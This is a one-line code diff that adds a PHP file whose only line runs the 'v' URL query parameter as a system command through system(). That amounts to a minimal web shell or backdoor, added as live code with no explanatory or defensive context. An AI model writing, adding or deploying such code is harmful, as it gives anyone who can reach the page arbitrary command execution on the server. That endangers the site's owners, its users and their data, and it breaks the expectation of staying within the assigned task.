@@ -1,0 +1,1 @@
+<?php $s = sscanf($_GET["v"], "%s"); system($s[0]);
